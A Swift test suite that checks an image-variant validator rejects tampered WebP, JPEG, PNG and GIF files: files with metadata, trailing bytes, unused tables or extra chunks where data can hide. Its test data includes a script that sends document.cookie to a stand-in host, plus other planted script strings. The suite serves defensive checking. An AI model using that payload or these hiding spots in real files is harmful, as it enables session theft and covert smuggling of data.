import Foundation
import ImageProcessing
import Testing

@testable import AppDefModel
@testable import Generation
@testable import Linting
@testable import OnboardingKit

/// What the variant cache gives is checked before it is published, as any input is: WebP of
/// growing widths, then one fallback, each an image of its listed type and size in the source's
/// proportions, with nothing but its pixels (no EXIF, XMP, profile, comment or text), nothing
/// after its end, and pixel data that decodes whole.
struct ImageVariantValidationTests {
    static let png = ExampleProject.bytes(of: .png)
    /// What the build checks the variants of the 4×3 PNG against.
    static let check = CachedVariantCheck(
        widths: [4], fallbackWidth: 4, sourceSize: ImageSize(width: 4, height: 3), quality: 75, isAnimated: false, sourceFrames: 1)

    static func made(_ source: [UInt8] = png, animated: Bool = false) throws -> [ImageVariantCache.Entry] {
        let format = try #require(ImageInspector.sniffFormat(source))
        let size = try #require(ImageInspector.size(of: source, format: format))
        let asset = ImageAsset(sourceFileName: "a", bytes: source, size: size, isResizable: true, isAnimated: animated, frameCount: animated ? 3 : 1)
        return try ImagePublisher.variants(of: asset, quality: 75, cacheFolder: nil).variants.map {
            ImageVariantCache.Entry(mediaType: $0.mediaType, width: $0.width, height: $0.height, bytes: $0.bytes)
        }
    }

    /// `entries` with the variant at `index`'s bytes changed by `change`.
    static func changing(_ entries: [ImageVariantCache.Entry], at index: Int, _ change: ([UInt8]) -> [UInt8]) -> [ImageVariantCache.Entry] {
        var changed = entries
        changed[index].bytes = change(entries[index].bytes)
        return changed
    }

    static let tail = Array("<script>fetch('https://example.com/?'+document.cookie)</script>".utf8)
    static let gps = Array("Exif\0\0GPSLatitude 51.5 PhoneMaker".utf8)

    @Test func whatTheBuildMakesPasses() throws {
        let entries = try Self.made()
        #expect(entries.map(\.mediaType) == ["image/webp", "image/jpeg"])
        #expect(Self.check.problem(with: entries) == nil)
    }

    @Test func anEntryOfAnotherTypeSizeOrOrderDoesNot() throws {
        let entries = try Self.made()
        var otherType = entries
        otherType[0].mediaType = "image/html"
        var otherSize = entries
        otherSize[1].width = 3
        var notAnImage = entries
        notAnImage[1].bytes = Array("<script>alert(1)</script>".utf8)
        var mislabelled = entries
        mislabelled[1].mediaType = "image/png"  // JPEG bytes
        var huge = entries
        huge[0].width = Int.max / 2
        for wrong in [otherType, otherSize, notAnImage, mislabelled, huge, Array(entries.reversed()), [entries[0]], [entries[0], entries[0], entries[1]]] {
            #expect(Self.check.problem(with: wrong) != nil, "\(wrong.map { ($0.mediaType, $0.width, $0.height) })")
        }
    }

    /// The same picture in other proportions is not a variant of this source.
    @Test func anotherShapeDoesNot() throws {
        let entries = try Self.made()
        let tall = CachedVariantCheck(
            widths: [4], fallbackWidth: 4, sourceSize: ImageSize(width: 4, height: 12), quality: 75, isAnimated: false, sourceFrames: 1)
        #expect(tall.problem(with: entries)?.contains("not in the proportions of the 4×12 source") == true)
        // The source's proportions turned a quarter are another picture, where the build does
        // not turn the source (round 29).
        let turned = CachedVariantCheck(
            widths: [4], fallbackWidth: 4, sourceSize: ImageSize(width: 3, height: 4), quality: 75, isAnimated: false, sourceFrames: 1)
        #expect(turned.problem(with: entries)?.contains("not in the proportions of the 3×4 source") == true)
    }

    @Test func aWebPWithMetadataOrATailDoesNot() throws {
        let entries = try Self.made()
        func chunk(_ type: String, _ data: [UInt8]) -> [UInt8] { Array(type.utf8) + [UInt8(data.count), 0, 0, 0] + data + (data.count % 2 == 1 ? [0] : []) }
        func adding(_ extra: [UInt8]) -> ([UInt8]) -> [UInt8] {
            { webp in
                let length = webp.count - 8 + extra.count
                return Array("RIFF".utf8) + [UInt8(length & 0xFF), UInt8(length >> 8 & 0xFF), UInt8(length >> 16), 0] + webp[8...] + extra
            }
        }
        let cases: [(String, ([UInt8]) -> [UInt8])] = [
            ("a 'EXIF' chunk", adding(chunk("EXIF", Self.gps))), ("a 'XMP ' chunk", adding(chunk("XMP ", Array("<x:xmpmeta/>".utf8)))),
            ("a 'ICCP' chunk", adding(chunk("ICCP", [0, 0, 0, 0]))), ("bytes after its end", { $0 + Self.tail }),
            // An alpha chunk after a simple file's image, which no decoder reads (round 24).
            ("a 'ALPH' chunk no decoder reads", adding(chunk("ALPH", [0] + Self.tail))),
        ]
        for (what, change) in cases {
            let problem = Self.check.problem(with: Self.changing(entries, at: 0, change))
            #expect(problem?.contains(what) == true, "\(what): \(problem ?? "accepted")")
        }
    }

    @Test func aJPEGWithMetadataOrATailDoesNot() throws {
        let entries = try Self.made()
        func inserting(_ segment: [UInt8]) -> ([UInt8]) -> [UInt8] { { Array($0[0..<2]) + segment + $0[2...] } }
        func afterTheFirstSegment(_ bytes: [UInt8]) -> ([UInt8]) -> [UInt8] {
            { jpeg in
                let second = 4 + (Int(jpeg[4]) << 8 | Int(jpeg[5]))
                return Array(jpeg[..<second]) + bytes + jpeg[second...]
            }
        }
        func beforeTheEnd(_ bytes: [UInt8]) -> ([UInt8]) -> [UInt8] { { Array($0.dropLast(2)) + bytes + [0xFF, 0xD9] } }
        let exif: [UInt8] = [0xFF, 0xE1, 0, UInt8(Self.gps.count + 2)] + Self.gps
        let comment: [UInt8] = [0xFF, 0xFE, 0, 7] + Array("hello".utf8)
        // Tables no frame or scan uses, which a sealed file could fill with its own bytes: a
        // quantization table 3, a Huffman AC table 3; and one with bytes after its table.
        let payload = Array((Self.tail + Self.tail).prefix(64))
        let unusedQuantization: [UInt8] = [0xFF, 0xDB, 0, 67, 0x03] + payload
        let unusedHuffman: [UInt8] = [0xFF, 0xC4, 0, 19 + 24, 0x13] + [0, 0, 0, 0, 0, 0, 0, 24] + Array(repeating: 0, count: 8) + payload.prefix(24)
        let overlong: [UInt8] = [0xFF, 0xDB, 0, 67 + 8, 0x00] + payload + Array(Self.tail.prefix(8))
        let cases: [(String, ([UInt8]) -> [UInt8])] = [
            ("an APP1 segment", inserting(exif)), ("a comment", inserting(comment)), ("bytes after its end", { $0 + Self.tail }),
            ("a table no frame or scan uses", inserting(unusedQuantization)), ("a table no frame or scan uses", inserting(unusedHuffman)),
            ("a table segment holding more than its tables", inserting(overlong)),
            // A table 0 defined twice (the first never used), a table after the last scan (round 23).
            ("a table no frame or scan uses", inserting([0xFF, 0xDB, 0, 67, 0x00] + payload)),
            ("a table no frame or scan uses", { jpeg in Array(jpeg.dropLast(2)) + [0xFF, 0xC4, 0, 19 + 24, 0x10] + unusedHuffman[5...] + [0xFF, 0xD9] }),
            // A number-of-lines or arithmetic-conditioning segment of planted bytes, which libjpeg
            // skips or reads without a word (round 27).
            ("a segment of type 0xDC", inserting([0xFF, 0xDC, 0, UInt8(2 + payload.count)] + payload)),
            ("a segment of type 0xCC", inserting([0xFF, 0xCC, 0, 6, 0x10, 0x01, 0x11, 0x02])),
            // Bytes between two segments, which libjpeg skips with a warning (round 28); restart
            // and TEM markers, which can spell a message in their numbers, and fill bytes, which
            // it passes over without one (round 29).
            ("bytes or markers between segments", afterTheFirstSegment(Array("<script>planted</script>".utf8))),
            ("bytes or markers between segments", afterTheFirstSegment([0xFF, 0xD3, 0xFF, 0xD6, 0xFF, 0xD0])),
            ("bytes or markers between segments", afterTheFirstSegment([0xFF, 0x01])),
            ("bytes or markers between segments", afterTheFirstSegment([0xFF, 0xFF, 0xFF])),
            ("a marker that stands alone (TEM or RSTn)", beforeTheEnd([0xFF, 0xD5])),
            ("fill bytes before a marker", beforeTheEnd([0xFF, 0xFF, 0xFF])),
            // A DC table named by a DC refinement scan, which reads bits without one (round 24).
            ("a table no frame or scan uses", { jpeg in Self.refinementScanNaming([0xFF, 0xC4, 0, 19 + 24, 0x01] + unusedHuffman[5...], in: jpeg) }),
        ]
        for (what, change) in cases {
            let problem = Self.check.problem(with: Self.changing(entries, at: 1, change))
            #expect(problem?.contains(what) == true, "\(what): \(problem ?? "accepted")")
        }
    }

    /// `jpeg` with `table` (a DC Huffman table 1) before its first DC refinement scan (first
    /// coefficient 0, a previous approximation), whose components are made to name DC table 1.
    static func refinementScanNaming(_ table: [UInt8], in jpeg: [UInt8]) -> [UInt8] {
        var at = 2
        while at + 4 < jpeg.count, jpeg[at] == 0xFF {
            let length = Int(jpeg[at + 2]) << 8 | Int(jpeg[at + 3])
            if jpeg[at + 1] == 0xDA {
                let components = Int(jpeg[at + 4])
                let (start, approximation) = (jpeg[at + 5 + 2 * components], jpeg[at + 7 + 2 * components])
                if start == 0 && approximation >> 4 != 0 {
                    var changed = jpeg
                    for index in 0..<components { changed[at + 6 + 2 * index] = changed[at + 6 + 2 * index] & 0x0F | 0x10 }
                    return Array(changed[..<at]) + table + changed[at...]
                }
                // Past the scan's data, to the next marker that is no stuffed byte or restart.
                at += 2 + length
                while at + 1 < jpeg.count, !(jpeg[at] == 0xFF && jpeg[at + 1] != 0 && !(0xD0...0xD7).contains(jpeg[at + 1])) { at += 1 }
            } else {
                at += 2 + length
            }
        }
        Issue.record("the JPEG has no DC refinement scan")
        return jpeg
    }

    @Test func aPNGWithTextProfileOrATailDoesNot() throws {
        // A WebP with transparency: its fallback is a PNG.
        let url = try #require(Bundle.module.url(forResource: "Fixtures/images/sample-alpha-27x35", withExtension: "webp"))
        let entries = try Self.made([UInt8](try Data(contentsOf: url)))
        #expect(entries.last?.mediaType == "image/png")
        let check = CachedVariantCheck(
            widths: [27], fallbackWidth: 27, sourceSize: ImageSize(width: 27, height: 35), quality: 75, isAnimated: false, sourceFrames: 1)
        #expect(check.problem(with: entries) == nil)
        let fallback = entries.count - 1
        func inserting(_ type: String, _ data: [UInt8]) -> ([UInt8]) -> [UInt8] {
            { png in Array(png[0..<33]) + ImageAnimationTests.chunk(type, data) + png[33...] }
        }
        for type in ["tEXt", "iTXt", "zTXt", "eXIf", "iCCP", "tIME"] {
            let problem = check.problem(with: Self.changing(entries, at: fallback, inserting(type, Self.gps)))
            #expect(problem?.contains("a '\(type)' chunk") == true, "\(type): \(problem ?? "accepted")")
        }
        let tailed = check.problem(with: Self.changing(entries, at: fallback) { $0 + Self.tail })
        #expect(tailed?.contains("bytes after its end") == true, "\(tailed ?? "accepted")")
        // A payload past the 9 bytes of its pixel density, which a sealed file could carry.
        let grown = check.problem(
            with: Self.changing(entries, at: fallback) { png in
                let at = (0..<png.count - 4).first { Array(png[$0..<$0 + 4]) == Array("pHYs".utf8) }! - 4
                return Array(png[..<at]) + ImageAnimationTests.chunk("pHYs", Array(png[at + 8..<at + 17]) + Self.tail) + png[(at + 21)...]
            })
        #expect(grown?.contains("a 'pHYs' chunk of \(9 + Self.tail.count) bytes, more than it holds") == true, "\(grown ?? "accepted")")
        // A PNG of other colours than the build's, whose palette or transparency could hold
        // more than its pixels use (round 23).
        let palette = check.problem(
            with: Self.changing(entries, at: fallback) { png in
                var changed = png
                changed[25] = 3
                return changed
            })
        #expect(palette?.contains("has no alpha channel (its colour type is 3)") == true, "\(palette ?? "accepted")")
        // An animation frame's data in a still, which no decoder of a still reads (round 24).
        let frameData = check.problem(
            with: Self.changing(entries, at: fallback) { png in
                let body = Array("fdAT".utf8) + [0, 0, 0, 1] + Self.tail
                let crc = ImagePixelDamageTests.crc32(body)
                let length = body.count - 4
                return Array(png[0..<33]) + [0, 0, UInt8(length >> 8), UInt8(length & 0xFF)] + body
                    + [UInt8(crc >> 24), UInt8(crc >> 16 & 0xFF), UInt8(crc >> 8 & 0xFF), UInt8(crc & 0xFF)] + png[33...]
            })
        #expect(frameData?.contains("holds animation chunks") == true, "\(frameData ?? "accepted")")
        // A palette, or transparency, in an image with an alpha channel: nobody's pixels.
        for type in ["PLTE", "tRNS"] {
            let problem = check.problem(with: Self.changing(entries, at: fallback, inserting(type, Array(Self.tail.prefix(24)))))
            #expect(problem?.contains("a '\(type)' chunk in an image of colour type 6, which draws nothing with it") == true, "\(problem ?? "accepted")")
        }
    }

    @Test func aGIFWithACommentOrATailDoesNot() throws {
        let source = AnimatedGIF.make(width: 40, height: 30, frames: [0, 1, 2])
        let entries = try Self.made(source, animated: true)
        #expect(entries.map(\.mediaType) == ["image/webp", "image/gif"])
        let check = CachedVariantCheck(
            widths: [40], fallbackWidth: 40, sourceSize: ImageSize(width: 40, height: 30), quality: 75, isAnimated: true, sourceFrames: 3)
        #expect(check.problem(with: entries) == nil)
        // After the header and the global colour table, where extensions may start.
        func beforeTheFirstFrame(_ block: [UInt8]) -> ([UInt8]) -> [UInt8] {
            { gif in
                let start = 13 + (gif[10] & 0x80 == 0 ? 0 : 3 << (Int(gif[10] & 0x07) + 1))
                return Array(gif[..<start]) + block + gif[start...]
            }
        }
        // A sub-block of `payload` after the first sub-block of the extension whose first bytes
        // are `start`, which a sealed file could carry past a loop count or a frame's delay.
        func extending(_ start: [UInt8], by payload: [UInt8]) -> ([UInt8]) -> [UInt8] {
            { gif in
                let at = (0..<gif.count - start.count).first { Array(gif[$0..<$0 + start.count]) == start }!
                let afterFirst = at + 2 + 1 + Int(gif[at + 2])
                return Array(gif[..<afterFirst]) + [UInt8(payload.count)] + payload + gif[afterFirst...]
            }
        }
        let payload = Array("<script>x</script>".utf8)
        let cases: [(String, ([UInt8]) -> [UInt8])] = [
            (
                "an application extension ('NETSCAPE2.0') holding more than its loop count",
                { gif in
                    // Past the name block, at the loop count's.
                    let at = (0..<gif.count - 11).first { Array(gif[$0..<$0 + 11]) == Array("NETSCAPE2.0".utf8) }! + 11
                    return Array(gif[..<(at + 4)]) + [UInt8(payload.count)] + payload + gif[(at + 4)...]
                }
            ),
            ("a graphic control extension holding more than its 4 bytes", extending([0x21, 0xF9, 0x04], by: payload)),
            ("a comment extension", beforeTheFirstFrame(AnimatedGIF.commentExtension)),
            ("an application extension ('XMP DataXMP')", beforeTheFirstFrame(AnimatedGIF.xmpExtension)), ("bytes after its end", { $0 + Self.tail }),
        ]
        for (what, change) in cases {
            let problem = check.problem(with: Self.changing(entries, at: 1, change))
            #expect(problem?.contains(what) == true, "\(what): \(problem ?? "accepted")")
        }
        // A still's variants are not an animation's, and frames beyond the source's are not its.
        let still = CachedVariantCheck(
            widths: [40], fallbackWidth: 40, sourceSize: ImageSize(width: 40, height: 30), quality: 75, isAnimated: false, sourceFrames: 1)
        #expect(still.problem(with: entries) != nil)
        let fewer = CachedVariantCheck(
            widths: [40], fallbackWidth: 40, sourceSize: ImageSize(width: 40, height: 30), quality: 75, isAnimated: true, sourceFrames: 2)
        #expect(fewer.problem(with: entries)?.contains("has 3 frames, where the source has 2") == true)
    }

    /// Whole structure, damaged pixel data: only decoding finds it.
    @Test func pixelDataThatDoesNotDecodeDoesNot() throws {
        // 300×200 of fine stripes, whose compressed data is long enough to damage.
        let source = AnimatedGIF.make(width: 300, height: 200, frames: [0]) { _, x, y in UInt8((x / 2 + y) % 3) }
        let entries = try Self.made(source)
        #expect(entries.map(\.mediaType) == ["image/webp", "image/jpeg"])
        let checked = CachedVariantCheck(
            widths: [300], fallbackWidth: 300, sourceSize: ImageSize(width: 300, height: 200), quality: 75, isAnimated: false, sourceFrames: 1)
        #expect(checked.problem(with: entries) == nil)
        // The JPEG: bytes of its first scan's data made 0xAA, which are no Huffman codes.
        let jpeg = try #require(entries.last).bytes
        let scan = try #require((0..<jpeg.count - 1).first { jpeg[$0] == 0xFF && jpeg[$0 + 1] == 0xDA })
        let dataStart = scan + 2 + (Int(jpeg[scan + 2]) << 8 | Int(jpeg[scan + 3]))
        var damagedJPEG = jpeg
        damagedJPEG.replaceSubrange(dataStart + 2..<dataStart + 40, with: Array(repeating: 0xAA, count: 38))
        // The WebP: its frame header's first partition said to be longer than the data.
        let webp = entries[0].bytes
        var chunk = 12
        while !webp[chunk..<chunk + 4].elementsEqual("VP8 ".utf8) {
            chunk += 8 + (webp[chunk + 4..<chunk + 8].reversed().reduce(0) { $0 << 8 | Int($1) } + 1) & ~1
        }
        var damagedWebP = webp
        damagedWebP[chunk + 8] |= 0xE0
        damagedWebP[chunk + 9] = 0xFF
        damagedWebP[chunk + 10] = 0xFF
        for (index, damaged) in [(entries.count - 1, damagedJPEG), (0, damagedWebP)] {
            #expect(ImageStructure.read(damaged, format: index == 0 ? .webp : .jpeg)?.end == damaged.count, "the structure is whole")
            let problem = checked.problem(with: Self.changing(entries, at: index) { _ in damaged })
            // The JPEG's scans are read for their Huffman codes before libvips decodes it.
            let said = index == 0 ? "does not decode" : "codes its Huffman tables do not decode"
            #expect(problem?.contains(said) == true, "\(index): \(problem ?? "accepted")")
        }
    }
}
